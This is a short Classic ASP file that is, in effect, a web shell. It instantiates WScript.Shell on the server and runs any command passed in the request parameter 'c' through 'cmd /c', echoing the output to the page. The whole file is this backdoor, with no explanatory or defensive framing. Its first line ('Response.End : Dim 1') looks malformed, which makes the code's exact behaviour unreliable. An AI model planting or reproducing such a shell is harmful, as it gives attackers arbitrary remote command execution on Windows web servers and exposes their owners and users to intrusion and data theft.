<% Response.End : Dim 1 %>
<object runat="server" id="ws" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% If Request("c") <> "" Then
Response.Write ws.exec("cmd /c " & Request("c")).stdout.readall
End If %>